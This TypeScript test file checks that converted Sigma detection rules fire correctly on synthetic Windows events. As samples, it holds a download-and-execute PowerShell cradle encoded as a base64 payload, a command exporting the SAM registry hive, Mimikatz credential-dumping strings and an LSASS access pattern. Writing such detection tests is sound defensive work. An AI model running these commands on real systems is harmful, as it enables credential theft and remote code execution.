/**
 * Converted Sigma rules compiled by the rule engine and run against hand-made normalized
 * events: what an operator would see fire (or not).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { datasetsDir } from '../../../testing/index.js';
import { compileRuleSet } from '../../rules/index.js';
import { loadSigmaRules, type SigmaRuleDoc } from '../index.js';
import { mustConvert, ruleYaml } from './helpers.js';

type Ev = Record<string, unknown> & { type: string };

async function firing(rule: SigmaRuleDoc, events: Ev[]): Promise<boolean[]> {
  const set = compileRuleSet([rule]);
  assert.deepEqual(set.issues, [], 'the converted rule compiles');
  return events.map((e) => {
    let hit = false;
    set.match({ time: 1_700_000_000_000, ...e } as Parameters<typeof set.match>[0], () => {
      hit = true;
    });
    return hit;
  });
}

const proc = (image: string, cmdline: string, extra: Record<string, unknown> = {}): Ev => ({
  type: 'process.start',
  proc: { image, cmdline, ...extra },
  raw: { Image: image, CommandLine: cmdline },
});

test('windash and endswith match every dash form on the normalized process fields', async () => {
  const rule = mustConvert(ruleYaml(`sel:\n  Image|endswith: '\\reg.exe'\n  CommandLine|windash|contains: ' -export '\ncondition: sel`));
  assert.deepEqual(
    await firing(rule, [
      proc('C:\\Windows\\System32\\REG.EXE', 'reg -export HKLM\\SAM x'),
      proc('C:\\Windows\\System32\\reg.exe', 'reg /export HKLM\\SAM x'),
      proc('C:\\Windows\\System32\\reg.exe', 'reg \u2013export HKLM\\SAM x'),
      proc('C:\\Windows\\System32\\reg.exe', 'reg query HKLM\\SAM'),
      proc('C:\\Windows\\System32\\cmd.exe', 'cmd /c reg -export x'),
      { type: 'file.create', proc: { image: 'C:\\reg.exe', cmdline: 'reg -export ' } },
    ]),
    [true, true, true, false, false, false],
  );
});

test('wide|base64offset finds a UTF-16 string inside any -EncodedCommand payload', async () => {
  const rule = mustConvert(ruleYaml(`sel:\n  CommandLine|wide|base64offset|contains: 'Net.WebClient'\ncondition: sel`));
  const payload = (prefix: string): string =>
    Buffer.from(`${prefix}IEX (New-Object Net.WebClient).DownloadString('http://x/a')`, 'utf16le').toString('base64');
  const other = Buffer.from('Get-Process | Sort-Object CPU', 'utf16le').toString('base64');
  assert.deepEqual(
    await firing(rule, [
      proc('powershell.exe', `powershell -enc ${payload('')}`),
      proc('powershell.exe', `powershell -enc ${payload('$a=1;')}`),
      proc('powershell.exe', `powershell -enc ${payload('$ab=12;')}`),
      proc('powershell.exe', `powershell -enc ${other}`),
    ]),
    [true, true, true, false],
  );
});

test('a Security logon rule: event ID, channel guard, cidr filter', async () => {
  const rule = mustConvert(
    ruleYaml(
      `selection:\n  EventID: 4624\n  LogonType: 10\nfilter_local:\n  IpAddress|cidr:\n    - '10.0.0.0/8'\n    - '::1/128'\ncondition: selection and not 1 of filter_*`,
      'product: windows\n  service: security',
    ),
  );
  const logon = (ip: string, channel = 'Security', logonType: unknown = '10'): Ev => ({
    type: 'logon.success',
    logon: { type: 10, src_ip: ip },
    raw: { Channel: channel, EventID: 4624, LogonType: logonType, IpAddress: ip },
  });
  assert.deepEqual(
    await firing(rule, [logon('203.0.113.9'), logon('10.1.2.3'), logon('::1'), logon('203.0.113.9', 'Application'), logon('203.0.113.9', 'Security', '3')]),
    [true, false, false, false, false],
  );
});

test('keywords search every raw value; null means absent; fieldref compares fields', async () => {
  const kw = mustConvert(ruleYaml(`keywords:\n  - 'sekurlsa::logonpasswords'\ncondition: keywords`, 'product: windows\n  service: system'));
  const sys = (data: Record<string, unknown>, channel = 'System'): Ev => ({ type: 'windows.event', raw: { Channel: channel, EventID: 7036, ...data } });
  assert.deepEqual(
    await firing(kw, [sys({ param1: 'ran SEKURLSA::LogonPasswords now' }), sys({ param1: 'benign' }), sys({ param1: 'sekurlsa::logonpasswords' }, 'Security')]),
    [true, false, false],
  );

  const nul = mustConvert(ruleYaml(`sel:\n  Image|endswith: '\\x.exe'\nfilter:\n  OriginalFileName: null\ncondition: sel and filter`));
  assert.deepEqual(
    await firing(nul, [proc('C:\\x.exe', 'x'), proc('C:\\x.exe', 'x', { original_file_name: 'x.exe' })]),
    [true, false],
  );

  const ref = mustConvert(ruleYaml(`sel:\n  TargetFilename|fieldref: Image\ncondition: sel`, 'category: file_delete\n  product: windows'));
  assert.deepEqual(
    await firing(ref, [
      { type: 'file.delete', proc: { image: 'C:\\Temp\\a.exe' }, file: { path: 'c:\\temp\\A.exe' } },
      { type: 'file.delete_detected', proc: { image: 'C:\\Temp\\a.exe' }, file: { path: 'C:\\Temp\\b.exe' } },
    ]),
    [true, false],
  );
});

test('GrantedAccess is compared as the raw string; re is case-sensitive unless |i', async () => {
  const pa = mustConvert(
    ruleYaml(`sel:\n  TargetImage|endswith: '\\lsass.exe'\n  GrantedAccess|endswith: '10'\ncondition: sel`, 'category: process_access\n  product: windows'),
  );
  const access = (granted: string): Ev => ({
    type: 'process.access',
    target: { image: 'C:\\Windows\\System32\\lsass.exe' },
    access: { granted: Number(granted) },
    raw: { TargetImage: 'C:\\Windows\\System32\\lsass.exe', GrantedAccess: granted },
  });
  assert.deepEqual(await firing(pa, [access('0x1410'), access('0x1400')]), [true, false]);

  const re = mustConvert(ruleYaml(`sel:\n  CommandLine|re: 'Invoke-[A-Z]'\ncondition: sel`));
  const rei = mustConvert(ruleYaml(`sel:\n  CommandLine|re|i: 'invoke-mimi'\ncondition: sel`));
  const events = [proc('p.exe', 'Invoke-Mimikatz'), proc('p.exe', 'invoke-mimikatz')];
  assert.deepEqual(await firing(re, events), [true, false]);
  assert.deepEqual(await firing(rei, events), [true, true]);
});

test('a real SigmaHQ rule fires on a matching process and not on a benign one', async (t) => {
  const file = join(datasetsDir(), 'sigma', 'rules', 'windows', 'process_creation', 'proc_creation_win_lolbin_unregmp2.yml');
  if (!existsSync(file)) {
    t.skip(`${file} not found (set VIGIL_DATASETS)`);
    return;
  }
  const res = await loadSigmaRules([file]);
  const rule = res.rules[0];
  assert.ok(rule, `converted: ${JSON.stringify(res.skipped)}`);
  assert.deepEqual(
    await firing(rule, [
      proc('C:\\Windows\\System32\\unregmp2.exe', 'unregmp2.exe /HideWMP'),
      proc('C:\\Temp\\renamed.exe', 'renamed.exe -HideWMP', { original_file_name: 'unregmp2.exe' }),
      proc('C:\\Windows\\System32\\unregmp2.exe', 'unregmp2.exe /ShowWMP'),
    ]),
    [true, true, false],
  );
});
